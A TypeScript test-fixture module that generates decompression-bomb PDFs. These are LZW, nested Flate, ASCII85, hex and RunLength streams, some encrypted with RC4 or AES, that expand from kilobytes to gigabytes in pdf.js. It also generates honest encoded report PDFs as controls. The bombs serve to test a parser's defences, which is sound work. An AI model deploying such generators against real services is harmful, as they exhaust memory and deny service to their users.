// Hostile PDFs whose bomb is not a plain FlateDecode stream: LZW (on its own or under Flate),
// Flate under ASCIIHex or ASCII85, RunLength under Flate, and Flate inside an encrypted PDF (RC4,
// AES-128 and AES-256, opened with the empty password as pdf.js opens them), all written by hand
// here so that a file of a few kilobytes decodes to gigabytes without anything that large being
// made. Also the honest versions (a short report's page encoded the same ways, and encrypted), which
// pdf.js must read as before.
import { createCipheriv, createHash } from 'node:crypto';
import { deflateSync, zlibSync } from 'fflate';
import { concatBytes } from '../../shared/util/bytes';
import { FONT, TITLE_LINES, buildPdf, latin1, textOps, type PdfObject } from './pdf-generators';

// ---- Flate, crafted: repeated matches of 258 bytes in one fixed-Huffman block --------------------

class BitWriter {
  private bytes: number[] = [];
  private current = 0;
  private count = 0;
  /** Least significant bit first, as deflate packs its fields. */
  bits(value: number, n: number): void {
    for (let i = 0; i < n; i += 1) {
      this.current |= ((value >> i) & 1) << this.count;
      if (++this.count === 8) this.flushByte();
    }
  }
  /** A Huffman code, most significant bit first. */
  code(value: number, n: number): void {
    for (let i = n - 1; i >= 0; i -= 1) this.bits((value >> i) & 1, 1);
  }
  /** Most significant bit first (LZW's order). */
  msb(value: number, n: number): void {
    for (let i = n - 1; i >= 0; i -= 1) {
      this.current = (this.current << 1) | ((value >> i) & 1);
      if (++this.count === 8) this.flushByte();
    }
  }
  private parts: Uint8Array[] = [];
  /** Bytes written so far (only before any repeat). */
  get length(): number {
    return this.bytes.length;
  }
  slice(from: number, to: number): number[] {
    return this.bytes.slice(from, to);
  }
  /** Whole bytes appended as they are; the bits not yet flushed stay after them. */
  repeat(unit: readonly number[], times: number): void {
    const block = new Uint8Array(unit.length * times);
    block.set(unit);
    for (let filled = unit.length; filled < block.length; filled *= 2)
      block.copyWithin(filled, 0, Math.min(filled, block.length - filled));
    this.parts.push(Uint8Array.from(this.bytes), block);
    this.bytes = [];
  }
  private flushByte(): void {
    this.bytes.push(this.current & 0xff);
    this.current = 0;
    this.count = 0;
  }
  finish(msbFirst = false): Uint8Array {
    if (this.count > 0) {
      if (msbFirst) this.current <<= 8 - this.count;
      this.flushByte();
    }
    return concatBytes([...this.parts, Uint8Array.from(this.bytes)]);
  }
}

function literal(w: BitWriter, byte: number): void {
  if (byte < 144) w.code(0x30 + byte, 8);
  else w.code(0x190 + byte - 144, 9);
}

/** zlib data that inflates to `total` bytes of `pattern` (1 to 4 bytes) over and over: about 13 bits
 * for every 258 bytes, so a gigabyte is 6.5 MB (and that deflates again to a few kilobytes). */
export function repeatDeflate(pattern: Uint8Array, total: number): Uint8Array {
  const w = new BitWriter();
  w.bits(1, 1); // last block
  w.bits(1, 2); // fixed Huffman codes
  const p = pattern.length;
  for (const byte of pattern) literal(w, byte);
  let at = p;
  const match = () => {
    w.code(0xc5, 8); // length code 285: 258 bytes
    w.code(p - 1, 5); // distance 1 to 4
    at += 258;
  };
  // Eight matches are 104 bits, 13 whole bytes: after the first eight, every eight give the same
  // 13 bytes, so they are copied rather than written bit by bit.
  const block = 8 * 258;
  if (total - at >= 3 * block) {
    for (let i = 0; i < 8; i += 1) match();
    const before = w.length;
    for (let i = 0; i < 8; i += 1) match();
    const unit = w.slice(before, before + 13);
    const times = Math.floor((total - at) / block) - 1;
    w.repeat(unit, times);
    at += times * block;
  }
  while (total - at >= 258) match();
  for (; at < total; at += 1) literal(w, pattern[at % p] ?? 0);
  w.code(0, 7); // end of block
  const body = w.finish();
  // Adler-32 of the repeated pattern, in closed form.
  const n = BigInt(total);
  let a = 1n;
  let b = n;
  pattern.forEach((byte, j) => {
    const count = (n - BigInt(j) + BigInt(p) - 1n) / BigInt(p);
    if (count <= 0n) return;
    const sumI = count * BigInt(j + 1) + (BigInt(p) * count * (count - 1n)) / 2n;
    a += count * BigInt(byte);
    b += BigInt(byte) * (count * (n + 1n) - sumI);
  });
  const adler = Number(((b % 65521n) << 16n) | (a % 65521n));
  const out = new Uint8Array(body.length + 6);
  out.set([0x78, 0x01]);
  out.set(body, 2);
  out.set(
    [adler >>> 24, (adler >>> 16) & 0xff, (adler >>> 8) & 0xff, adler & 0xff],
    body.length + 2,
  );
  return out;
}

// ---- LZW ------------------------------------------------------------------------------------------

/** The code width pdf.js reads with (EarlyChange 1) when its table's next code is `nextCode`. */
function lzwWidth(nextCode: number): number {
  const n = nextCode + 1;
  return n >= 2048 ? 12 : n >= 1024 ? 11 : n >= 512 ? 10 : 9;
}

/** LZW codes that decode to `total` spaces: codes 258 to 4095 each one space longer than the last
 * (3,839 at the end), then code 4095 over and over, 12 bits for 3,839 bytes. */
export function lzwBombCodes(total: number): Uint8Array {
  const w = new BitWriter();
  let nextCode = 258;
  let emitted = 0;
  const emit = (code: number) => {
    w.msb(code, lzwWidth(emitted === 0 ? 258 : nextCode));
    if (emitted > 0) nextCode += 1;
    emitted += 1;
  };
  emit(0x20);
  let made = 1;
  for (let code = 258; code <= 4095 && made < total; code += 1) {
    emit(code);
    made += code - 256;
  }
  for (; made < total; made += 3839) emit(4095);
  emit(257);
  return w.finish(true);
}

/** An honest LZW encoder (EarlyChange 1, a clear code when the table fills), for the real page. */
export function lzwEncode(data: Uint8Array): Uint8Array {
  const w = new BitWriter();
  let table = new Map<string, number>();
  let nextEntry = 258;
  let emitted = 0;
  const emit = (code: number) => {
    w.msb(code, lzwWidth(emitted === 0 ? 258 : 258 + emitted - 1));
    emitted += 1;
  };
  let current = -1;
  let key = '';
  for (const byte of data) {
    if (current < 0) {
      current = byte;
      key = String(byte);
      continue;
    }
    const next = `${key},${byte}`;
    const known = table.get(next);
    if (known !== undefined) {
      current = known;
      key = next;
      continue;
    }
    emit(current);
    table.set(next, nextEntry);
    nextEntry += 1;
    if (nextEntry >= 4094) {
      emit(256);
      table = new Map();
      nextEntry = 258;
      emitted = 0;
    }
    current = byte;
    key = String(byte);
  }
  if (current >= 0) emit(current);
  emit(257);
  return w.finish(true);
}

// ---- the other encodings --------------------------------------------------------------------------

export function asciiHex(data: Uint8Array): Uint8Array {
  return latin1(`${Buffer.from(data).toString('hex')}>`);
}

export function ascii85(data: Uint8Array): Uint8Array {
  let out = '';
  for (let at = 0; at < data.length; at += 4) {
    const group = data.subarray(at, at + 4);
    const padded = new Uint8Array(4);
    padded.set(group);
    let value =
      (padded[0] ?? 0) * 2 ** 24 +
      ((padded[1] ?? 0) << 16) +
      ((padded[2] ?? 0) << 8) +
      (padded[3] ?? 0);
    if (group.length === 4 && value === 0) {
      out += 'z';
      continue;
    }
    const digits: string[] = [];
    for (let i = 0; i < 5; i += 1) {
      digits.unshift(String.fromCharCode(0x21 + (value % 85)));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, group.length + 1).join('');
  }
  return latin1(`${out}~>`);
}

export function runLength(data: Uint8Array): Uint8Array {
  const out: number[] = [];
  for (let at = 0; at < data.length; at += 128) {
    const piece = data.subarray(at, at + 128);
    out.push(piece.length - 1, ...piece);
  }
  out.push(128);
  return Uint8Array.from(out);
}

// ---- the files ------------------------------------------------------------------------------------

const GIGABYTE = 1024 * 1024 * 1024;

/** Page 1 reads normally; page 2's content stream is `data` with `filters` (a PDF array's items). */
function twoPagePdf(
  filters: string,
  data: Uint8Array,
  encrypt?: Encrypt,
  filterKey = '/Filter',
): Uint8Array {
  const contents: PdfObject[] = [
    { dict: '<< /Length %LENGTH% >>', data: latin1(textOps(TITLE_LINES)) },
    { dict: `<< /Length %LENGTH% ${filterKey} [${filters}] >>`, data },
  ];
  const objects: PdfObject[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R 6 0 R] /Count 2 >>',
    FONT,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
    contents[0] as PdfObject,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 7 0 R >>',
    contents[1] as PdfObject,
  ];
  if (!encrypt) return buildPdf(objects);
  const encrypted = objects.map((object, i) =>
    typeof object === 'string' ? object : { ...object, data: encrypt.stream(i + 1, object.data) },
  );
  encrypted.push(encrypt.dict);
  return buildPdf(
    encrypted,
    `/Encrypt ${encrypted.length} 0 R /ID [<${ID.toString('hex')}> <${ID.toString('hex')}>] `,
  );
}

/** An LZW stream alone: `gigabytes` of spaces from 1 MB a gigabyte and a half. */
export function lzwBombPdf(gigabytes: number): Uint8Array {
  return twoPagePdf('/LZWDecode', lzwBombCodes(gigabytes * GIGABYTE));
}

/** LZW under Flate: a few kilobytes. */
export function flateLzwBombPdf(gigabytes: number): Uint8Array {
  return twoPagePdf(
    '/FlateDecode /LZWDecode',
    zlibSync(lzwBombCodes(gigabytes * GIGABYTE), { level: 9 }),
  );
}

const spaces = (gigabytes: number) =>
  zlibSync(repeatDeflate(latin1(' '), gigabytes * GIGABYTE), { level: 9 });

/** Flate twice over: a few kilobytes a gigabyte. */
export function deepFlateBombPdf(gigabytes: number): Uint8Array {
  return twoPagePdf('/FlateDecode /FlateDecode', spaces(gigabytes));
}

/** Flate twice over, written out in hexadecimal. */
export function hexFlateBombPdf(gigabytes: number): Uint8Array {
  return twoPagePdf('/ASCIIHexDecode /FlateDecode /FlateDecode', asciiHex(spaces(gigabytes)));
}

/** Flate twice over, in ASCII85 (abbreviated names, as pdf.js accepts them). */
export function ascii85FlateBombPdf(gigabytes: number): Uint8Array {
  return twoPagePdf('/A85 /Fl /Fl', ascii85(spaces(gigabytes)));
}

/** RunLength runs of 128 spaces, two bytes each, under Flate twice over. */
export function runLengthBombPdf(gigabytes: number): Uint8Array {
  const runs = Math.ceil((gigabytes * GIGABYTE) / 128);
  const pairs = zlibSync(repeatDeflate(Uint8Array.from([0x81, 0x20]), runs * 2), { level: 9 });
  return twoPagePdf('/FlateDecode /FlateDecode /RunLengthDecode', pairs);
}

/** A flate bomb in a name pdf.js decodes (#xx) and under the /F abbreviation of /Filter. */
export function escapedNameBombPdf(gigabytes: number): Uint8Array {
  return twoPagePdf('/Fl#61teDecode /FlateDecode', spaces(gigabytes), undefined, '/F');
}

/** A flate bomb whose data holds the word "endstream" before its real end (given by /Length). */
export function hiddenEndBombPdf(gigabytes: number): Uint8Array {
  // The inner stream begins with a stored (uncompressed) block of the words, then the bomb; the
  // outer stream stores that beginning as it is, so the words stand in the file's bytes, and
  // deflates the rest. pdf.js inflates both and draws the words and a gigabyte of spaces.
  const word = latin1(' endstream endobj ');
  const stored = (data: Uint8Array) => [
    0x00,
    data.length & 0xff,
    data.length >> 8,
    ~data.length & 0xff,
    (~data.length >> 8) & 0xff,
    ...data,
  ];
  const innerHead = Uint8Array.from([0x78, 0x01, ...stored(word)]);
  const innerRest = repeatDeflate(latin1(' '), gigabytes * GIGABYTE).subarray(2);
  const outerHead = Uint8Array.from([0x78, 0x01, ...stored(innerHead)]);
  const outerRest = deflateSync(innerRest, { level: 9 });
  const data = new Uint8Array(outerHead.length + outerRest.length);
  data.set(outerHead);
  data.set(outerRest, outerHead.length);
  return twoPagePdf('/FlateDecode /FlateDecode', data);
}

/** The honest page 2: a short report's words, encoded with `filters` by `encode`. */
export function encodedReportPdf(
  filters: string,
  encode: (content: Uint8Array) => Uint8Array,
): {
  pdf: Uint8Array;
  content: Uint8Array;
} {
  const content = latin1(
    textOps([
      'Overall effectiveness: Good',
      'Children in care are visited regularly and their plans are reviewed on time.',
      'Leaders know their services well and act on what they find.',
    ]),
  );
  return { pdf: twoPagePdf(filters, encode(content)), content };
}

// ---- encryption ---------------------------------------------------------------------------------

const ID = Buffer.from('5c7a1e0b9d3f4a6287e1c0ffee123456', 'hex');
const PADDING = Buffer.from(
  '28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a',
  'hex',
);
const P = -3904;

interface Encrypt {
  dict: string;
  stream(num: number, data: Uint8Array): Uint8Array;
}

const md5 = (...parts: Uint8Array[]) => {
  const h = createHash('md5');
  for (const part of parts) h.update(part);
  return h.digest();
};

function rc4(key: Uint8Array, data: Uint8Array): Uint8Array {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + (s[i] ?? 0) + (key[i % key.length] ?? 0)) & 0xff;
    [s[i], s[j]] = [s[j] ?? 0, s[i] ?? 0];
  }
  const out = new Uint8Array(data.length);
  for (let k = 0, a = 0, b = 0; k < data.length; k += 1) {
    a = (a + 1) & 0xff;
    b = (b + (s[a] ?? 0)) & 0xff;
    [s[a], s[b]] = [s[b] ?? 0, s[a] ?? 0];
    out[k] = (data[k] ?? 0) ^ (s[((s[a] ?? 0) + (s[b] ?? 0)) & 0xff] ?? 0);
  }
  return out;
}

const padded = (password: string) =>
  Buffer.concat([Buffer.from(password, 'latin1'), PADDING]).subarray(0, 32);
const le32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeInt32LE(n);
  return b;
};
const hex = (bytes: Uint8Array) => `<${Buffer.from(bytes).toString('hex')}>`;

function aes(
  bits: 128 | 256,
  key: Uint8Array,
  data: Uint8Array,
  iv: Uint8Array,
  pad = true,
): Buffer {
  const cipher = createCipheriv(`aes-${bits}-cbc`, key, iv);
  cipher.setAutoPadding(pad);
  return Buffer.concat([cipher.update(data), cipher.final()]);
}

/** Standard security handler revision 3 (RC4, 128 bits) or 4 (AES-128), user password `user`. */
function legacyEncrypt(method: 'rc4' | 'aes128', user: string): Encrypt {
  const r = method === 'rc4' ? 3 : 4;
  const n = 16;
  let ownerKey = md5(padded('owner'));
  for (let i = 0; i < 50; i += 1) ownerKey = md5(ownerKey);
  let o: Uint8Array = rc4(ownerKey, padded(user));
  for (let i = 1; i <= 19; i += 1)
    o = rc4(
      ownerKey.map((b) => b ^ i),
      o,
    );
  let key = md5(padded(user), o, le32(P), ID);
  for (let i = 0; i < 50; i += 1) key = md5(key.subarray(0, n));
  key = key.subarray(0, n);
  let u: Uint8Array = rc4(key, md5(PADDING, ID));
  for (let i = 1; i <= 19; i += 1)
    u = rc4(
      key.map((b) => b ^ i),
      u,
    );
  u = Buffer.concat([u, Buffer.alloc(16)]);
  const crypt =
    method === 'rc4'
      ? '/V 2 /Length 128'
      : '/V 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF';
  return {
    dict: `<< /Filter /Standard ${crypt} /R ${r} /O ${hex(o)} /U ${hex(u)} /P ${P} >>`,
    stream(num, data) {
      const salt = method === 'aes128' ? Buffer.from('sAlT') : Buffer.alloc(0);
      const objectKey = md5(
        key,
        Uint8Array.from([num & 0xff, (num >> 8) & 0xff, num >> 16, 0, 0]),
        salt,
      );
      if (method === 'rc4') return rc4(objectKey, data);
      const iv = md5(Buffer.from(`iv${num}`));
      return Buffer.concat([iv, aes(128, objectKey, data, iv)]);
    },
  };
}

function hash2B(password: Buffer, salt: Uint8Array, userKey: Uint8Array): Buffer {
  let k = createHash('sha256').update(password).update(salt).update(userKey).digest();
  for (let round = 0; ; round += 1) {
    const k1 = Buffer.concat([password, k, userKey]);
    const e = aes(
      128,
      k.subarray(0, 16),
      Buffer.concat(Array(64).fill(k1)),
      k.subarray(16, 32),
      false,
    );
    let sum = 0;
    for (let i = 0; i < 16; i += 1) sum += e[i] ?? 0;
    k = createHash(['sha256', 'sha384', 'sha512'][sum % 3] ?? 'sha256')
      .update(e)
      .digest();
    if (round >= 63 && (e[e.length - 1] ?? 0) <= round - 31) break;
  }
  return k.subarray(0, 32);
}

/** Revision 6 (AES-256), user password `user`. */
function aes256Encrypt(user: string): Encrypt {
  const fileKey = createHash('sha256').update('file key').digest();
  const userPassword = Buffer.from(user, 'utf8');
  const [uValidation, uKey, oValidation, oKey] = ['uv', 'uk', 'ov', 'ok'].map((s) =>
    createHash('sha256').update(s).digest().subarray(0, 8),
  ) as [Buffer, Buffer, Buffer, Buffer];
  const u = Buffer.concat([hash2B(userPassword, uValidation, Buffer.alloc(0)), uValidation, uKey]);
  const ue = aes(
    256,
    hash2B(userPassword, uKey, Buffer.alloc(0)),
    fileKey,
    Buffer.alloc(16),
    false,
  );
  const owner = Buffer.from('owner');
  const o = Buffer.concat([hash2B(owner, oValidation, u), oValidation, oKey]);
  const oe = aes(256, hash2B(owner, oKey, u), fileKey, Buffer.alloc(16), false);
  const perms = Buffer.concat([
    le32(P),
    Buffer.from([255, 255, 255, 255]),
    Buffer.from('Tadb'),
    Buffer.alloc(4),
  ]);
  const permsEnc = aes(256, fileKey, perms, Buffer.alloc(16), false);
  return {
    dict: `<< /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /StdCF /O ${hex(o)} /U ${hex(u)} /OE ${hex(oe)} /UE ${hex(ue)} /P ${P} /Perms ${hex(permsEnc)} >>`,
    stream(num, data) {
      const iv = md5(Buffer.from(`iv${num}`));
      return Buffer.concat([iv, aes(256, fileKey, data, iv)]);
    },
  };
}

export type Cipher = 'rc4' | 'aes128' | 'aes256';

function encryptWith(cipher: Cipher, user: string): Encrypt {
  return cipher === 'aes256' ? aes256Encrypt(user) : legacyEncrypt(cipher, user);
}

/** A flate bomb (twice deflated) in a PDF encrypted with `cipher`, opened with no password. */
export function encryptedBombPdf(cipher: Cipher, gigabytes: number): Uint8Array {
  return twoPagePdf('/FlateDecode /FlateDecode', spaces(gigabytes), encryptWith(cipher, ''));
}

/** The honest report page, deflated, in a PDF encrypted with `cipher` and user password `user`. */
export function encryptedReportPdf(
  cipher: Cipher,
  user = '',
): { pdf: Uint8Array; content: Uint8Array } {
  const { content } = encodedReportPdf('/FlateDecode', (c) => c);
  return {
    pdf: twoPagePdf('/FlateDecode', zlibSync(content), encryptWith(cipher, user)),
    content,
  };
}
